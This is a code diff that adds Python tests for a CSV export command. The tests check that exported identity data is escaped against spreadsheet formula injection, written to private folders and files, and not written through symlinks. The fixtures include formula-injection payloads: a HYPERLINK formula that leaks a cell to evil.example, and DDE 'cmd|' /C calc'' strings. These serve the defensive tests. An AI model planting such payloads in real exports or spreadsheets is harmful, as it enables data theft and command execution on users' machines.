@@ -164,3 +164,93 @@ def test_write_table_is_private_from_creation(tmp_path):
     with pytest.raises(OSError):
         csvio.write_table(link, table, [])
     assert not (tmp_path / "elsewhere.csv").exists()
+
+
+# --- graphsvc export ----------------------------------------------------------------------------
+
+
+IDENTITY_VALUES = {  # people.csv: legal_name, phone, address of p-001 … p-003; visits.csv: notes
+    "p-001": ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+82 10-1234-5678", "'=x"),
+    "p-002": ("＝1+1", "-", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    "p-003": ("'", "－3", "＠home"),
+}
+NOTES = {"v-001": "+cmd|' /C calc'!A0", "v-003": "'처음 방문"}
+
+
+def _nasty_identity(small: Path) -> None:
+    """Identity values that a spreadsheet would run, written as the export writes them."""
+    def people(rows):
+        for r in rows[1:]:
+            if r[0] in IDENTITY_VALUES:
+                r[3:6] = [spreadsheet_safe(v) for v in IDENTITY_VALUES[r[0]]]
+
+    def visits(rows):
+        for r in rows[1:]:
+            if r[0] in NOTES:
+                r[6] = spreadsheet_safe(NOTES[r[0]])
+
+    rewrite(small, "people", people)
+    rewrite(small, "visits", visits)
+
+
+def test_export_is_private_safe_and_round_trips(db, cli_env, small, tmp_path):
+    _nasty_identity(small)
+    assert import_folder(db, small).ok
+    person = db.read("snapshot")[0]  # the importer read the escapes back: the values as meant
+    stored = {p["id"]: p for labels, p in person["nodes"] if labels == ["Person"]}
+    assert KEYRING.decrypt(stored["p-001"]["address"], "Person", "p-001", "address") == "'=x"
+    assert KEYRING.decrypt(stored["p-003"]["legal_name"], "Person", "p-003", "legal_name") == "'"
+    before = snapshot(db, decrypt=True)
+
+    out = tmp_path / "nested" / "export"
+    old = os.umask(0o022)
+    try:
+        result = run("export", str(out))
+    finally:
+        os.umask(old)
+    assert result.exit_code == 0, result.output
+    assert "IDENTITY DATA" in result.stderr and str(out) in result.stderr
+    assert stat.S_IMODE(out.stat().st_mode) == 0o700
+    files = sorted(out.iterdir())
+    assert [f.name for f in files] == sorted(t.filename for t in csvio.TABLES.values())  # no .partial left
+    for path in files:
+        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
+        for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")):
+            assert not any(_dangerous(cell) for cell in row), (path.name, row)
+    text = (out / "people.csv").read_text(encoding="utf-8-sig")
+    assert '"\'=HYPERLINK(' in text and "\"'＝1+1\"" in text and "\"''=x\"" in text
+
+    db.run_autocommit("wipe_all")
+    assert run("import", str(out)).exit_code == 0
+    assert snapshot(db, decrypt=True) == before
+
+    redacted = run("export", str(tmp_path / "redacted"), "--redact")
+    assert redacted.exit_code == 0 and "IDENTITY DATA" not in redacted.stderr
+
+
+def test_export_refuses_a_folder_others_can_enter(db, cli_env, small, tmp_path):
+    assert import_folder(db, small).ok
+    shared = tmp_path / "shared"
+    shared.mkdir()
+    os.chmod(shared, 0o755)
+    result = run("export", str(shared))
+    assert result.exit_code == 1
+    assert f"{shared} can be entered by other users (mode 0755)" in result.stderr
+    assert "chmod 700" in result.stderr
+    assert list(shared.iterdir()) == [] and stat.S_IMODE(shared.stat().st_mode) == 0o755
+    assert not audit.query(db, action="export.start")  # refused before anything happened
+
+    a_file = tmp_path / "a-file"
+    a_file.write_text("x")
+    assert "is not a folder" in run("export", str(a_file)).stderr
+
+    os.chmod(shared, 0o700)  # a private folder that exists is fine; stale partials are replaced
+    (shared / "people.csv.partial").write_text("stale")
+    os.chmod(shared / "people.csv.partial", 0o644)
+    outside = tmp_path / "outside.csv"
+    outside.write_text("not the export's")
+    (shared / "visits.csv.partial").symlink_to(outside)  # never written through
+    assert run("export", str(shared)).exit_code == 0
+    assert outside.read_text() == "not the export's"
+    assert sorted(p.name for p in shared.iterdir()) == sorted(t.filename for t in csvio.TABLES.values())
+    assert all(stat.S_IMODE(p.lstat().st_mode) == 0o600 for p in shared.iterdir())
